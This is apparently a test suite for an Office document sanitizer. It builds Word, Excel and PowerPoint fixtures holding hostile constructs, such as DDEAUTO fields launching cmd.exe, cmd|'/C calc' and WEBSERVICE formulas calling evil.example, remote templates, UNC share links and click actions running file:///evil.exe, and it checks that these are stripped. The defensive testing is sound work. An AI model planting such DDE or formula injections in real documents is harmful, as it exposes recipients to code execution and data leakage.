import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TextWriter, Uint8ArrayReader, ZipReader } from '@zip.js/zip.js';
import CFB from 'cfb';
import {
  field,
  pack,
  paragraph,
  relationships,
  text,
  types,
  wordDocument,
  wordPackage,
} from '../../src/sanitize/fixtures/package';
import { removedFrom, sanitized } from '../../src/sanitize/fixtures/sanitized';
import { lacks } from '../needs';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'assay-sanitize-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const unpack = async (content: Uint8Array): Promise<{ [name: string]: string }> => {
  const files: { [name: string]: string } = {};
  for (const entry of await new ZipReader(new Uint8ArrayReader(content)).getEntries()) {
    if (!entry.directory) files[entry.filename] = await entry.getData(new TextWriter());
  }
  return files;
};

/** Has LibreOffice, which is given a profile of its own, write a document in another format. Returns the path of that. */
const convert = (path: string, to: string): string => {
  const made = path.replace(/\.\w+$/, `.${to.split(':')[0]}`);
  rmSync(made, { force: true });
  const profile = `-env:UserInstallation=file://${join(dir, 'profile')}`;
  const command = ['soffice', profile, '--headless', '--convert-to', to, '--outdir', dir, path];
  // Now and then its starter waits for ever for what has ended already.
  for (let attempt = 0; attempt < 3 && !existsSync(made); attempt++)
    Bun.spawnSync(command, { timeout: 15_000, killSignal: 'SIGKILL' });
  return made;
};

/** What LibreOffice reads in a document. */
const opened = (content: Uint8Array, name: string, to: string): string => {
  const path = join(dir, name);
  writeFileSync(path, content);
  return readFileSync(convert(path, to), 'utf8');
};

const evil = () =>
  wordPackage(
    [
      text('Dear reader'),
      field([' DDE', 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"']),
      field([' PAGE '], '1'),
      '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\evil\\\\share&quot;"><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>',
      '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>page</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>share</w:t></w:r></w:hyperlink></w:p>',
      paragraph('<w:object><o:OLEObject r:id="rId4" Type="Embed"/></w:object>'),
    ].join(''),
    relationships(
      ['rId3', 'vbaProject', 'vbaProject.bin'],
      ['rId4', 'oleObject', 'embeddings/oleObject1.bin'],
      ['rId5', 'hyperlink', 'https://example.org/', true],
      ['rId6', 'hyperlink', '\\\\evil\\share', true],
      ['rId7', 'attachedTemplate', 'http://evil.example/t.dotm', true],
    ),
    {
      'word/vbaProject.bin': 'evil',
      'word/_rels/vbaProject.bin.rels': relationships(['rId1', 'wordVbaData', 'vbaData.xml']),
      'word/vbaData.xml': '<evil/>',
      'word/embeddings/oleObject1.bin': 'evil',
      'customUI/customUI.xml': '<evil/>',
    },
    '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
  );

describe('a Word document', () => {
  test('loses macros, objects, links to elsewhere and exchange of data, with all that refers to them', async () => {
    const { content, removed, extension } = await sanitized(await evil());
    const files = await unpack(content);
    expect(Object.keys(files).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
    ]);
    expect(Object.values(files).join()).not.toMatch(/evil|DDE|cmd\.exe|INCLUDETEXT|macroEnabled|vbaData|rId[3467]/);
    expect(files['word/document.xml']).toContain('PAGE');
    expect(files['word/_rels/document.xml.rels']).toContain('https://example.org/');
    expect(extension).toBe('docx');
    expect(removed.map(({ what, where }) => `${what}: ${where}`).sort()).toEqual([
      'dynamic data exchange: DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
      'dynamic data exchange: INCLUDETEXT "\\\\\\\\evil\\\\share"',
      'embedded object: word/embeddings/oleObject1.bin',
      'external link: \\\\evil\\share',
      'external link: http://evil.example/t.dotm',
      'macro: customUI/customUI.xml',
      'macro: word/vbaData.xml',
      'macro: word/vbaProject.bin',
    ]);
  });

  test('loses a field whose name another field makes up', async () => {
    const quoted =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\\\evil.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const { content } = await sanitized(await wordPackage(quoted, relationships()));
    expect((await unpack(content))['word/document.xml']).not.toMatch(/QUOTE|evil/);
  });

  test.each([
    ['a link to a file in a field', field([' HYPERLINK "file:///evil/share" '])],
    ['a link to a share behind a switch', field([' HYPERLINK \\n "\\\\evil\\share" '])],
    ['another document in a field', field([' RD "\\\\evil\\share\\a.docx" '])],
    [
      'a field whose deletion is not accepted yet',
      field([' DDE', 'AUTO evil']).replaceAll('instrText', 'delInstrText'),
    ],
    [
      'a picture of old from elsewhere',
      '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
    ],
  ])('loses %s', async (_, body) => {
    const { content, removed } = await sanitized(await wordPackage(`${text('kept')}${body}`, relationships()));
    const part = (await unpack(content))['word/document.xml'];
    expect(part).not.toMatch(/evil/);
    expect(part).toContain('kept');
    expect(removed).toHaveLength(1);
  });

  test('keeps fields that lead to pages and to places in the document', async () => {
    const body = field([' HYPERLINK "https://example.org/" ']) + field([' HYPERLINK \\l "chapter" ']);
    const { content, removed } = await sanitized(await wordPackage(body, relationships()));
    expect((await unpack(content))['word/document.xml']).toContain(body);
    expect(removed).toEqual([]);
  });

  test('loses the query of a database behind a serial letter, a template from elsewhere, and what nothing refers to', async () => {
    const settings =
      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:connectString w:val="Provider=evil"/><w:query w:val="evil"/></w:mailMerge><w:zoom w:percent="90"/></w:settings>';
    const { content, removed } = await sanitized(
      await wordPackage(text('kept'), relationships(['rId2', 'settings', 'settings.xml']), {
        'word/settings.xml': settings,
        'word/_rels/settings.xml.rels': relationships(['rId1', 'attachedTemplate', 'http://evil.example/t.dotm', true]),
        'evil.exe': 'MZ evil',
        'WORD/_RELS/evil.xml.RELS': relationships(['rId1', 'attachedTemplate', 'http://evil.example/t.dotm', true]),
      }),
    );
    const files = await unpack(content);
    expect(Object.values(files).join()).not.toMatch(/evil/);
    expect(Object.keys(files).join()).not.toMatch(/evil/);
    expect(files['word/settings.xml']).toContain('<w:zoom w:percent="90"/>');
    expect(removed.map(({ what }) => what).sort()).toEqual([
      'embedded object',
      'embedded object',
      'external link',
      'external link',
    ]);
  });

  test('is told from other zips and packages also where its beginning does not tell', async () => {
    const parts = {
      'a/0.txt': 'x'.repeat(100),
      '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml', 'main/document.xml'),
      'main/document.xml': wordDocument(text('kept')),
    };
    const main = relationships(['rId1', 'officeDocument', 'main/document.xml']);
    const { removed } = await sanitized(await pack({ ...parts, '_rels/.rels': main }));
    expect(removed).toEqual([{ what: 'embedded object', where: 'a/0.txt' }]);
    for (const other of [await pack({ 'a/0.txt': 'x' }), await pack({ ...parts, '_rels/.rels': relationships() })])
      expect(sanitized(other)).rejects.toThrow('nothing sanitizes');
  });

  test('whose main part goes by another name is cleared all the same', async () => {
    const hidden = await pack({
      '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml', 'word/document.bin'),
      '_rels/.rels': relationships(['rId1', 'officeDocument', 'word/document.bin']),
      'word/document.bin': wordDocument(`${text('kept')}${field([' DDEAUTO evil'])}`),
    });
    const part = (await unpack((await sanitized(hidden)).content))['word/document.bin'];
    expect(part).toContain('kept');
    expect(part).not.toContain('evil');
  });

  test('has the scripts of the drawings in it taken out, and the drawings stay', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>evil</script><rect width="1"/></svg>';
    const { content } = await sanitized(
      await wordPackage(text('kept'), relationships(['rId2', 'image', 'media/a.svg']), { 'word/media/a.svg': svg }),
    );
    expect((await unpack(content))['word/media/a.svg']).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>',
    );
  });

  test.skipIf(lacks('soffice'))('opens with LibreOffice, with its text', async () => {
    expect(opened((await sanitized(await evil())).content, 'evil.docx', 'txt:Text')).toContain('Dear reader');
  });

  test.each([
    ['with two parts of one name', { 'WORD/document.xml': 'x' }],
    ['whose XML is not well-formed', { 'word/styles.xml': '<a>' }],
  ])('%s is refused or made right, never passed on as it is', async (_, more) => {
    const result = await sanitized(
      await wordPackage(text('x'), relationships(['rId1', 'styles', 'styles.xml']), more as never),
    ).catch((error: Error) => error);
    if (!(result instanceof Error)) expect(Object.keys(await unpack(result.content))).toContain('word/document.xml');
    else expect(result.message).not.toBe('');
  });
});

const workbook = () =>
  pack({
    '[Content_Types].xml': types(
      'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      'xl/workbook.xml',
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    ),
    '_rels/.rels': relationships(['rId1', 'officeDocument', 'xl/workbook.xml']),
    'xl/workbook.xml':
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="One" sheetId="1" r:id="rId1"/><sheet name="Macro" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="far">[1]Sheet!$A$1</definedName><definedName name="_xlnm.Auto_Open">Macro!$A$1</definedName></definedNames></workbook>',
    'xl/_rels/workbook.xml.rels': relationships(
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'xlMacrosheet', 'macrosheets/sheet2.xml'],
      ['rId3', 'externalLink', 'externalLinks/externalLink1.xml'],
    ),
    'xl/worksheets/sheet1.xml':
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>42</v></c><c r="B1"><f>A1*2</f><v>84</v></c><c r="C1"><f>[1]!\'!A0\'</f><v>7</v></c><c r="D1"><f>cmd|\'/C calc\'!A0</f><v>8</v></c><c r="E1"><f>WEBSERVICE("https://evil.example")</f><v>9</v></c><c r="F1"><f>_xlfn.IMAGE("https://evil.example/a.png")</f><v>10</v></c><c r="G1"><f>\'C:\\evil\\[b.xlsx]S\'!A1</f><v>11</v></c><c r="H1"><f>SUM(Table1[[#All],[a]])</f><v>12</v></c></row></sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("https://evil.example")</formula></cfRule></conditionalFormatting></worksheet>',
    'xl/macrosheets/sheet2.xml': '<evil/>',
    'xl/externalLinks/externalLink1.xml':
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="evil"/></externalLink>',
  });

describe('an Excel workbook', () => {
  test('loses macro sheets, links to elsewhere and formulas that reach out, and keeps values and the other formulas', async () => {
    const files = await unpack((await sanitized(await workbook())).content);
    expect(Object.values(files).join()).not.toMatch(/evil|cmd|WEBSERVICE|\[1\]|Macro|externalReference/);
    expect(files['xl/worksheets/sheet1.xml']).toContain('<f>A1*2</f><v>84</v>');
    expect(files['xl/worksheets/sheet1.xml']).toContain('<f>SUM(Table1[[#All],[a]])</f>');
    for (const value of [7, 8, 9, 10, 11]) expect(files['xl/worksheets/sheet1.xml']).toContain(`<v>${value}</v>`);
  });

  test.skipIf(lacks('soffice'))('opens with LibreOffice, with its values', async () => {
    expect(opened((await sanitized(await workbook())).content, 'book.xlsx', 'csv')).toContain('42,84,7,8,9');
  });

  test('in binary is refused', () => {
    const binary = pack({
      '[Content_Types].xml': types('application/vnd.ms-excel.sheet.binary.macroEnabled.main', 'xl/workbook.bin'),
      '_rels/.rels': relationships(['rId1', 'officeDocument', 'xl/workbook.bin']),
      'xl/workbook.bin': 'x',
    });
    expect(binary.then((content) => sanitized(content))).rejects.toThrow('binary workbook');
  });
});

describe('a PowerPoint presentation', () => {
  const slide = `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="t"><a:hlinkClick r:id="" action="ppaction://program"/><a:hlinkMouseOver r:id="rId2" action="ppaction://hlinkfile"/></p:cNvPr><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:t>Kept words</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`;
  const presentation = () =>
    pack({
      '[Content_Types].xml': types(
        'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
        'ppt/presentation.xml',
        '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>',
      ),
      '_rels/.rels': relationships(['rId1', 'officeDocument', 'ppt/presentation.xml']),
      'ppt/presentation.xml':
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
      'ppt/_rels/presentation.xml.rels': relationships(
        ['rId1', 'slide', 'slides/slide1.xml'],
        ['rId2', 'vbaProject', 'vbaProject.bin'],
      ),
      'ppt/slides/slide1.xml': slide,
      'ppt/slides/_rels/slide1.xml.rels': relationships(['rId2', 'hyperlink', 'file:///evil.exe', true]),
      'ppt/vbaProject.bin': 'evil',
    });

  test('loses macros, and what a click or the pointer runs, and keeps its words', async () => {
    const { content, removed, extension } = await sanitized(await presentation());
    const files = await unpack(content);
    expect(Object.values(files).join()).not.toMatch(/evil|ppaction|hlinkMouseOver|macroEnabled/);
    expect(files['ppt/slides/slide1.xml']).toContain('Kept words');
    expect(extension).toBe('pptx');
    expect(removed.map(({ what }) => what).sort()).toEqual(['action', 'action', 'external link', 'macro']);
  });

  test.skipIf(lacks('soffice', 'pdftotext'))('opens with LibreOffice, with its words', async () => {
    opened((await sanitized(await presentation())).content, 'talk.pptx', 'pdf');
    expect(Bun.spawnSync(['pdftotext', join(dir, 'talk.pdf'), '-']).stdout.toString()).toContain('Kept words');
  });
});

describe('documents up to 2003', () => {
  const made = (from: string, content: string, to: string): Uint8Array => {
    writeFileSync(join(dir, from), content);
    return readFileSync(convert(join(dir, from), to));
  };
  const withStorages = (document: Uint8Array): Uint8Array => {
    const file = CFB.read(document, { type: 'array' });
    for (const name of ['/Macros/VBA/Module1', '/_VBA_PROJECT_CUR/VBA/dir', '/ObjectPool/_1/\u0001Ole10Native'])
      CFB.utils.cfb_add(file, name, Buffer.from('evil'));
    return new Uint8Array(CFB.write(file, { type: 'array' }) as unknown as ArrayLike<number>);
  };

  test.skipIf(lacks('soffice'))('Word: macros and objects go, the text stays and opens', async () => {
    const { content } = await sanitized(withStorages(made('old.txt', 'Old words', 'doc')));
    expect(Buffer.from(content).includes('evil')).toBe(false);
    expect(opened(content, 'old2.doc', 'txt:Text')).toContain('Old words');
    expect((await removedFrom(withStorages(made('old.txt', 'Old words', 'doc')))).sort()).toEqual([
      'embedded object: ObjectPool/_1/Ole10Native',
      'macro: Macros/VBA/Module1',
      'macro: _VBA_PROJECT_CUR/VBA/dir',
    ]);
  });

  /** A document whose text lies in two pieces, the second one in front, with marks of fields for braces, and a template of a share. */
  const inTwoPieces = (document: Uint8Array, first: number): Uint8Array => {
    const file = CFB.read(document, { type: 'array' });
    const contentOf = (name: string) => CFB.find(file, name)?.content as unknown as number[];
    const head = Buffer.from(contentOf('/WordDocument'));
    const name = head.readUInt16LE(0x0a) & 0x200 ? '/1Table' : '/0Table';
    const [letters, place] = (() => {
      const list = Buffer.from(contentOf(name)).subarray(head.readUInt32LE(0x1a2));
      return [list.readUInt32LE(9), list.readUInt32LE(15)];
    })();
    for (let at = place; at < place + letters * 2; at += 2) {
      const mark = { '{': 0x13, '|': 0x14, '}': 0x15 }[String.fromCharCode(head[at]!)];
      if (mark !== undefined) head[at] = mark;
    }
    const numbers = (...list: number[]) => Buffer.from(Uint32Array.from(list).buffer);
    const piece = (start: number) => Buffer.concat([Buffer.alloc(2), numbers(start), Buffer.alloc(2)]);
    const second = letters - first;
    const pieces = Buffer.concat([numbers(0, second, letters), piece(place + first * 2), piece(place)]);
    const list = Buffer.concat([Buffer.from([2]), numbers(pieces.length), pieces]);
    const template = Buffer.from('\\\\evil\\t.dot', 'utf16le');
    const texts = Buffer.concat([Buffer.from([255, 255, 2, 0, 0, 0, 0, 0, template.length / 2, 0]), template]);
    const table = Buffer.from(contentOf(name));
    for (const [at, start, length] of [
      [0x1a2, table.length, list.length],
      [0x19a, table.length + list.length, texts.length],
    ] as const) {
      head.writeUInt32LE(start, at);
      head.writeUInt32LE(length, at + 4);
    }
    CFB.utils.cfb_add(file, '/WordDocument', head);
    CFB.utils.cfb_add(file, name, Buffer.concat([table, list, texts]));
    return new Uint8Array(CFB.write(file, { type: 'array' }) as unknown as ArrayLike<number>);
  };

  test.skipIf(lacks('soffice'))('Word: a field in two pieces of text and a template of a share go', async () => {
    const behind = 'AUTO evil.exe |shown} the end';
    const document = inTwoPieces(made('field.txt', `${behind}Beginning { DDE`, 'doc'), behind.length);
    const { content, removed } = await sanitized(document);
    expect(removed).toEqual([
      { what: 'dynamic data exchange', where: 'DDE\rAUTO evil.exe' },
      { what: 'external link', where: '\\\\evil\\t.dot' },
    ]);
    expect(Buffer.from(content).includes(Buffer.from('evil', 'utf16le'))).toBe(false);
    expect(opened(content, 'field2.doc', 'txt:Text')).toMatch(/Beginning[\s\S]*shown[\s\S]* the end/);
  });

  const talk = (action: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation"><office:body><office:presentation><draw:page draw:name="a"><draw:custom-shape svg:width="20cm" svg:height="5cm" svg:x="1cm" svg:y="1cm">${action}<text:p>Kept words</text:p><draw:enhanced-geometry draw:type="rectangle" draw:enhanced-path="M 0 0 L 21600 0 21600 21600 0 21600 0 0 Z N" svg:viewBox="0 0 21600 21600"/></draw:custom-shape></draw:page></office:presentation></office:body></office:document>`;

  test.skipIf(lacks('soffice', 'pdftotext'))(
    'PowerPoint: what a click runs goes, and the words stay and open',
    async () => {
      const runs =
        '<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///evil.exe"/></office:event-listeners>';
      const document = made('talk.fodp', talk(runs), 'ppt');
      expect(Buffer.from(document).includes(Buffer.from('evil', 'utf16le'))).toBe(true);
      const { content, removed } = await sanitized(document);
      expect(removed.map(({ what }) => what)).toEqual(['action']);
      expect(Buffer.from(content).includes(Buffer.from('evil', 'utf16le'))).toBe(false);
      opened(content, 'talk2.ppt', 'pdf');
      expect(Bun.spawnSync(['pdftotext', join(dir, 'talk2.pdf'), '-']).stdout.toString()).toContain('Kept words');
      expect((await sanitized(content)).removed).toEqual([]);
    },
  );

  const workbookOf = (...records: [type: number, data: string][]): Uint8Array => {
    const file = CFB.utils.cfb_new();
    const bytes = records.map(([type, data]) => {
      const content = Buffer.from(data, 'latin1');
      const head = Buffer.alloc(4);
      head.writeUInt16LE(type, 0);
      head.writeUInt16LE(content.length, 2);
      return Buffer.concat([head, content]);
    });
    CFB.utils.cfb_add(file, '/WORKBOOK', Buffer.concat(bytes));
    return new Uint8Array(CFB.write(file, { type: 'array' }) as unknown as ArrayLike<number>);
  };
  test.each([
    ['a sheet of macros', [0x85, '\0\0\0\0\0\x01name'], 'Excel 4.0'],
    ['a link to another file', [0x1ae, '\x01\0\x05\0\x01\x01evil'], 'refer to other files'],
    ['a query of the web', [0x876, 'evil'], 'filled from elsewhere'],
    ['a function that fetches', [0x18, '\0_xlfn.WEBSERVICE'], 'filled from elsewhere'],
    ['a password of its own that nobody is asked for', [0x2f, '\0\0'], 'encrypted'],
  ] as [string, [number, string], string][])('Excel: with %s it is refused, and says why', (_, record, why) => {
    expect(sanitized(workbookOf([0x809, ''], record))).rejects.toThrow(why);
  });

  test.skipIf(lacks('soffice'))('Excel: the values stay and open', async () => {
    const { content } = await sanitized(withStorages(made('table.csv', '1,2\n3,4\n', 'xls')));
    expect(Buffer.from(content).includes('evil')).toBe(false);
    expect(opened(content, 'table2.xls', 'csv')).toBe('1,2\n3,4\n');
  });
});
